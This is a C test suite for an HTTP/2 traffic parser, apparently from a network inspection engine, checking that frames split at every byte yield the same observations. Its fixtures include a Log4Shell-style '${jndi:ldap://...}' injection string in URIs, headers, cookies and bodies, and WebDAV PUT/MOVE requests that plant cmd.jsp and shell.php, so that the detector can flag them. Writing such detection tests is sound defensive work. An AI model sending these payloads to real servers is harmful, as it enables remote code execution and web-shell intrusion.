// SPDX-License-Identifier: GPL-2.0-or-later
// HTTP/2 in clear text, through contexts as the wire uses them: by prior knowledge, after an upgrade, late; every cut
// of every talk must yield the same.
#include "http2_maker.h"
#include "http2_impl.h"

static nghttp2_hd_deflater *client, *server; // encoders
static struct maker from_client, from_server, more;
static struct caught caught;
static struct counters counters;
static unsigned marked; // flows said to be uninspected
static struct proto_pool *pool;
static struct proto_flow flow;
static enum parse last_result;
static uint8_t app;

static void mark(void *user, enum counter why)
{
	ck_assert(why == COUNT_PROTO_HTTP2_LIMIT || why == COUNT_PROTO_INFLATE_BAD);
	marked++;
}

static void setup(void)
{
	from_client.n = from_server.n = more.n = 0;
	flow = (struct proto_flow){.direction = DIRECTION_IN, .transport = 6, .server_port = 8080};
	address_parse(bytes_of_text("198.51.100.9"), &flow.client);
	address_parse(bytes_of_text("10.0.0.5"), &flow.server);
	ck_assert_int_eq(nghttp2_hd_deflate_new(&client, 4096), 0);
	ck_assert_int_eq(nghttp2_hd_deflate_new(&server, 4096), 0);
	memset(&counters, 0, sizeof(counters));
	marked = 0;
	pool = proto_pool_create(2, &counters);
}

static void teardown(void)
{
	nghttp2_hd_deflate_del(client);
	nghttp2_hd_deflate_del(server);
	proto_pool_destroy(pool);
}

static enum parse feed(uint32_t context, bool from, struct bytes piece, bool gap, struct caught *out)
{
	struct proto_input in = proto_input_of_close(&flow, from);
	const struct proto_sink sink = {.emit = talk_catch, .user = out, .counters = &counters, .uninspected = mark};

	in.data = talk_at_edge(piece);
	in.gap = gap;
	return proto_feed(pool, context, &in, &sink, &app);
}

static void close_both(uint32_t context, struct caught *out)
{
	const struct proto_sink sink = {.emit = talk_catch, .user = out, .counters = &counters};

	proto_half_close(pool, context, true, &flow, &sink);
	proto_half_close(pool, context, false, &flow, &sink);
	proto_close(pool, context);
}

// As talk_play, but through a context.
static void play(const struct line *lines, size_t count, size_t cut_line, size_t cut, size_t step, struct caught *out)
{
	uint32_t context = proto_open(pool);

	ck_assert_uint_ne(context, 0);
	app = APP_NONE;
	out->count = 0;
	out->result = PARSE_MORE;
	for (size_t i = 0; i < count; i++) {
		struct bytes rest = lines[i].said, piece;

		for (size_t at = 0; rest.left && out->result == PARSE_MORE; at += piece.left) {
			piece = step ? bytes_head(rest, step) : i == cut_line && at < cut ? bytes_head(rest, cut - at) : rest;
			bytes_skip(&rest, piece.left);
			out->result = feed(context, lines[i].client, piece, false, out);
		}
	}
	close_both(context, out);
}

static void play_all(const struct line *lines, size_t count)
{
	static struct caught other;
	uint64_t limits;

	play(lines, count, 0, 0, 0, &caught);
	limits = counters.value[COUNT_PROTO_HTTP2_LIMIT];
	last_result = caught.result;
	for (size_t i = 0; i < count; i++) {
		size_t n = lines[i].said.left;

		for (size_t cut = 1; cut < n; cut++) {
			if (n >= TALK_EVERY_CUT_BELOW && cut > 64 && cut + 64 < n && cut % 61)
				continue;
			play(lines, count, i, cut, 0, &other);
			talk_expect_same(&caught, &other, i, cut);
		}
	}
	for (size_t step = 1; step <= 7; step += 3) {
		play(lines, count, 0, 0, step, &other);
		talk_expect_same(&caught, &other, TALK_CAUGHT, step);
	}
	counters.value[COUNT_PROTO_HTTP2_LIMIT] = limits;
}

#define PLAY(...) play_all((const struct line[]){__VA_ARGS__}, sizeof((const struct line[]){__VA_ARGS__}) / sizeof(struct line))

static const struct observation *nth(unsigned kind, unsigned n)
{
	for (size_t i = 0; i < caught.count && i < TALK_CAUGHT; i++)
		if (caught.o[i].kind == kind && n-- == 0)
			return &caught.o[i];
	ck_abort_msg("no such observation of kind %u", kind);
	return NULL;
}

static unsigned seen(unsigned kind)
{
	unsigned n = 0;

	for (size_t i = 0; i < caught.count && i < TALK_CAUGHT; i++)
		n += caught.o[i].kind == kind;
	return n;
}

// Observations that name an uploaded file.
static const struct observation *upload(unsigned n)
{
	for (size_t i = 0; i < caught.count && i < TALK_CAUGHT; i++)
		if (caught.o[i].kind == OBS_NAMED && observation_text(&caught.o[i], TEXT_NAMED_FILE).left && n-- == 0)
			return &caught.o[i];
	return NULL;
}

static unsigned seen_uploads(void)
{
	unsigned n = 0;

	while (upload(n))
		n++;
	return n;
}

static void begin_client(void)
{
	make_text(&from_client, H2_PREFACE);
	h2_settings(&from_client);
}

#define GET(path) {":method", "GET"}, {":path", path}, {":scheme", "http"}, {":authority", "shop.example"}
#define LOOKUP "${jndi:ldap://203.0.113.9:1389/a}"

static void both(void)
{
	PLAY({true, made(&from_client)}, {false, made(&from_server)});
}

START_TEST(a_server_may_say_its_settings_first)
{
	static struct maker settings;

	settings.n = 0;
	h2_settings(&settings);
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/first")));
	h2_headers(&from_server, server, H2_END, 1, H2_FIELDS({":status", "204"}));
	PLAY({false, made(&settings)}, {true, made(&from_client)}, {false, made(&from_server)});
	ck_assert_int_eq(app, APP_HTTP2);
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_URI, "/first");
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 0)->number[NUM_RESPONSE_STATUS], 204);
	ck_assert_int_eq(last_result, PARSE_MORE);
}
END_TEST

START_TEST(request_response_and_file)
{
	begin_client();
	h2_headers(&from_client, client, H2_END, 1,
		   H2_FIELDS(GET("/a?b=c"), {"user-agent", "probe/1"}, {"referer", "http://r.example/"}));
	h2_settings(&from_server);
	h2_headers(&from_server, server, 0, 1,
		   H2_FIELDS({":status", "200"}, {"content-type", "image/png"}, {"server", "s/1"},
			     {"location", "/there"}, {"content-length", "30"}));
	h2_text(&from_server, 0, 1, "#!/bin/sh\n");
	h2_text(&from_server, H2_END, 1, "echo harmless text\n");
	both();
	ck_assert_uint_eq(caught.count, 5);
	ck_assert_int_eq(app, APP_HTTP2);
	talk_expect_text(nth(OBS_NAMED, 0), TEXT_NAMED_HOSTS, "r.example");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_METHOD, "GET");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_URI, "/a?b=c");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_HOST, "shop.example");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_AGENT, "probe/1");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_REFERER, "http://r.example/");
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_VERSION, "HTTP/2");
	ck_assert_uint_eq(nth(OBS_HTTP_REQUEST, 0)->number[NUM_REQUEST_TX], 1);
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 0)->number[NUM_RESPONSE_TX], 1);
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 0)->number[NUM_RESPONSE_STATUS], 200);
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 0)->number[NUM_RESPONSE_LENGTH], 30);
	talk_expect_text(nth(OBS_HTTP_RESPONSE, 0), TEXT_RESPONSE_SERVER, "s/1");
	talk_expect_text(nth(OBS_HTTP_RESPONSE, 0), TEXT_RESPONSE_LOCATION, "/there");
	talk_expect_text(nth(OBS_HTTP_RESPONSE, 0), TEXT_RESPONSE_VERSION, "HTTP/2");
	ck_assert_uint_eq(nth(OBS_FILE, 0)->number[NUM_FILE_KIND], FILE_SCRIPT);
	ck_assert_uint_eq(nth(OBS_FILE, 0)->number[NUM_FILE_TX], 1);
	ck_assert_uint_ne(nth(OBS_FILE, 0)->facts & FACT_BIT(FACT_FILE_MISMATCH), 0);
	ck_assert_int_eq(last_result, PARSE_MORE);
}
END_TEST

// Nothing is opened here, so what is coded is not inspected. A body of no bytes is, and which of two codings counts, its reader decides.
START_TEST(coded_bodies_are_said)
{
	static const struct {
		const char *coding, *more, *body;
		unsigned said;
	} rows[] = {{"gzip", "identity", "\x1f\x8b\x08", 1}, {"br", "br", "x", 1}, {"identity", "", "x", 0}, {"gzip", "gzip", "", 0}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		from_client.n = from_server.n = 0;
		nghttp2_hd_deflate_del(client);
		nghttp2_hd_deflate_del(server);
		ck_assert_int_eq(nghttp2_hd_deflate_new(&client, 4096), 0);
		ck_assert_int_eq(nghttp2_hd_deflate_new(&server, 4096), 0);
		begin_client();
		h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/")));
		h2_settings(&from_server);
		h2_headers(&from_server, server, 0, 1,
			   H2_FIELDS({":status", "200"}, {"content-encoding", rows[i].coding}, {"content-encoding", rows[i].more}));
		h2_text(&from_server, 0, 1, rows[i].body);
		h2_text(&from_server, H2_END, 1, rows[i].body);
		marked = 0;
		counters.value[COUNT_PROTO_INFLATE_BAD] = 0;
		play((const struct line[]){{true, made(&from_client)}, {false, made(&from_server)}}, 2, 0, 0, 0, &caught);
		ck_assert_uint_eq(counters.value[COUNT_PROTO_INFLATE_BAD], rows[i].said);
		ck_assert_uint_eq(marked, rows[i].said);
		ck_assert_int_eq(caught.result, PARSE_MORE);
	}
}
END_TEST

// A web shell comes by any version: what PUT stores and what MOVE and COPY call it are names of uploads, what GET asks for is not.
START_TEST(names_of_uploads)
{
	begin_client();
	h2_headers(&from_client, client, H2_END, 1,
		   H2_FIELDS({":method", "PUT"}, {":path", "/dav/cmd.jsp?v=1"}, {":scheme", "http"}, {":authority", "shop.example"}));
	h2_headers(&from_client, client, H2_END, 3,
		   H2_FIELDS({":method", "MOVE"}, {":path", "/dav/a.txt"}, {":scheme", "http"}, {":authority", "shop.example"},
			     {"destination", "http://shop.example/dav/shell.php"}));
	h2_headers(&from_client, client, H2_END, 5, H2_FIELDS(GET("/dav/read.aspx"), {"destination", "/other.cgi"}));
	both();
	ck_assert_uint_eq(seen_uploads(), 2);
	talk_expect_text(upload(0), TEXT_NAMED_FILE, "cmd.jsp");
	talk_expect_text(upload(1), TEXT_NAMED_FILE, "shell.php");
}
END_TEST

START_TEST(lookup_cut_by_continuation)
{
	begin_client();
	h2_continued(&from_client, client, H2_END, 1, 3, H2_FIELDS(GET("/" LOOKUP), {"x-api", LOOKUP}));
	both();
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
	talk_expect_text(nth(OBS_JNDI, 0), TEXT_JNDI_FIELD, "uri");
	talk_expect_text(nth(OBS_JNDI, 1), TEXT_JNDI_FIELD, "header:x-api");
	talk_expect_text(nth(OBS_JNDI, 1), TEXT_JNDI_HOST, "203.0.113.9");
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
}
END_TEST

START_TEST(padding_and_priority)
{
	struct bytes block = h2_block(client, H2_FIELDS(GET("/padded")));

	MAKE(&more, 5, 0, 0, 0, 0, 16);
	make(&more, block.at, block.left);
	MAKE(&more, 0, 0, 0, 0, 0);
	begin_client();
	h2_frame(&from_client, H2_HEADERS, H2_LAST | H2_PADDED | H2_PRIORITIES, 1, made(&more));
	more.n = 0;
	MAKE(&more, 255);
	make_text(&more, "name=" LOOKUP);
	for (unsigned i = 0; i < 255; i++)
		MAKE(&more, 'x');
	h2_frame(&from_client, H2_DATA, H2_END | H2_PADDED, 1, made(&more));
	h2_frame(&from_client, H2_PRIORITY, 0, 3, bytes_of("\0\0\0\0\1", 5));
	h2_frame(&from_client, 0xfa, 0xff, 0, bytes_of("unknown", 7));
	both();
	talk_expect_text(nth(OBS_HTTP_REQUEST, 0), TEXT_REQUEST_URI, "/padded");
	talk_expect_text(nth(OBS_JNDI, 0), TEXT_JNDI_FIELD, "body");
	ck_assert_int_eq(last_result, PARSE_MORE);
}
END_TEST

START_TEST(more_padding_than_payload)
{
	begin_client();
	h2_frame(&from_client, H2_DATA, H2_PADDED, 1, bytes_of("\4abc", 4));
	both();
	ck_assert_int_eq(last_result, PARSE_BAD);
	teardown();
	setup();
	begin_client();
	h2_frame(&from_client, H2_DATA, H2_PADDED, 1, bytes_of("\3abc", 4)); // all of it is legal
	both();
	ck_assert_int_eq(last_result, PARSE_MORE);
}
END_TEST

START_TEST(interleaved_streams)
{
	begin_client();
	h2_headers(&from_client, client, 0, 1, H2_FIELDS(GET("/one")));
	h2_headers(&from_client, client, 0, 3, H2_FIELDS(GET("/two")));
	h2_text(&from_client, 0, 1, "a=${jndi:ldap:");
	h2_text(&from_client, 0, 3, "just words, ");
	h2_text(&from_client, H2_END, 1, "//203.0.113.9/one}");
	h2_text(&from_client, H2_END, 3, "nothing else");
	h2_settings(&from_server);
	h2_headers(&from_server, server, 0, 3, H2_FIELDS({":status", "404"}));
	h2_headers(&from_server, server, 0, 1, H2_FIELDS({":status", "200"}));
	h2_text(&from_server, 0, 1, "\x7f" "ELF\2\1\1");
	h2_text(&from_server, H2_END, 3, "<!DOCTYPE html><html>");
	h2_frame(&from_server, H2_DATA, H2_END, 1, bytes_of("\0\0\0\0\0\0\0\0\0\2\0\x3e\0", 13));
	both();
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 0)->number[NUM_RESPONSE_TX], 2);
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 1)->number[NUM_RESPONSE_TX], 1);
	talk_expect_text(nth(OBS_JNDI, 0), TEXT_JNDI_PATH, "/one");
	ck_assert_uint_eq(seen(OBS_FILE), 4);
	for (unsigned i = 0; i < 4; i++) {
		const struct observation *o = nth(OBS_FILE, i);

		if (o->number[NUM_FILE_KIND] == FILE_ELF)
			ck_assert_uint_eq(o->number[NUM_FILE_TX], 1);
		if (o->number[NUM_FILE_KIND] == FILE_HTML)
			ck_assert_uint_eq(o->number[NUM_FILE_TX], 2);
	}
}
END_TEST

START_TEST(cookie_crumbs_are_one_text)
{
	begin_client();
	h2_headers(&from_client, client, H2_END, 1,
		   H2_FIELDS(GET("/"), {"cookie", "a=${jndi:ldap://203.0.113.9/x"}, {"cookie", "b=c}"}));
	both();
	ck_assert_uint_eq(seen(OBS_JNDI), 1);
	talk_expect_text(nth(OBS_JNDI, 0), TEXT_JNDI_FIELD, "header:cookie");
	talk_expect_text(nth(OBS_JNDI, 0), TEXT_JNDI_PATH, "/x; b=c");
}
END_TEST

START_TEST(value_from_the_table_is_found_again)
{
	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/"), {"x-a", LOOKUP}, {"x-b", "harmless"}));
	h2_headers(&from_client, client, H2_END, 3, H2_FIELDS(GET("/"), {"x-a", LOOKUP}, {"x-b", "harmless"}));
	both();
	ck_assert_uint_eq(seen(OBS_JNDI), 2);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 2);
}
END_TEST

START_TEST(self_address_and_trailers)
{
	flow.direction = DIRECTION_OUT;
	flow.server = flow.client;
	address_parse(bytes_of_text("10.0.0.5"), &flow.client);
	begin_client();
	h2_headers(&from_client, client, 0, 1, H2_FIELDS(GET("/?ip=10.0.0.5")));
	h2_text(&from_client, 0, 1, "text");
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS({"x-sum", "5"}));
	h2_settings(&from_server);
	h2_headers(&from_server, server, 0, 1, H2_FIELDS({":status", "100"}));
	h2_headers(&from_server, server, 0, 1, H2_FIELDS({":status", "200"}, {"x-log", LOOKUP}));
	h2_headers(&from_server, server, H2_END, 1, H2_FIELDS({"x-sum", "6"}));
	both();
	ck_assert_uint_ne(nth(OBS_HTTP_REQUEST, 0)->facts & FACT_BIT(FACT_SELF_ADDRESS), 0);
	ck_assert_uint_eq(seen(OBS_HTTP_REQUEST), 1);
	ck_assert_uint_eq(seen(OBS_HTTP_RESPONSE), 2);
	ck_assert_uint_eq(seen(OBS_JNDI), 1); // what answers say is logged, too
}
END_TEST

START_TEST(push_promise)
{
	struct bytes block;

	begin_client();
	h2_headers(&from_client, client, H2_END, 1, H2_FIELDS(GET("/")));
	h2_settings(&from_server);
	block = h2_block(server, H2_FIELDS(GET("/pushed.js")));
	make_number(&more, 2, 4);
	make(&more, block.at, block.left);
	h2_frame(&from_server, H2_PUSH, H2_LAST, 1, made(&more));
	h2_headers(&from_server, server, H2_END, 1, H2_FIELDS({":status", "204"}));
	h2_headers(&from_server, server, 0, 2, H2_FIELDS({":status", "200"}));
	h2_text(&from_server, H2_END, 2, "#!/usr/bin/python3\nprint()\n");
	both();
	talk_expect_text(nth(OBS_HTTP_REQUEST, 1), TEXT_REQUEST_URI, "/pushed.js");
	ck_assert_uint_eq(nth(OBS_HTTP_REQUEST, 1)->from_client, 0);
	ck_assert_uint_eq(nth(OBS_HTTP_RESPONSE, 1)->number[NUM_RESPONSE_TX], 2);
	ck_assert_uint_eq(nth(OBS_FILE, 0)->number[NUM_FILE_TX], 2);
}
END_TEST

#include "http2_test_hostile.h"

int main(void)
{
	Suite *suite = suite_create("http2");
	TCase *t = tcase_create("http2");

	tcase_add_checked_fixture(t, setup, teardown);
	tcase_set_timeout(t, 60);
	tcase_add_test(t, request_response_and_file);
	tcase_add_test(t, a_server_may_say_its_settings_first);
	tcase_add_test(t, coded_bodies_are_said);
	tcase_add_test(t, names_of_uploads);
	tcase_add_test(t, lookup_cut_by_continuation);
	tcase_add_test(t, padding_and_priority);
	tcase_add_test(t, more_padding_than_payload);
	tcase_add_test(t, interleaved_streams);
	tcase_add_test(t, cookie_crumbs_are_one_text);
	tcase_add_test(t, value_from_the_table_is_found_again);
	tcase_add_test(t, self_address_and_trailers);
	tcase_add_test(t, push_promise);
	add_hostile(t);
	suite_add_tcase(suite, t);
	return talk_run(suite);
}
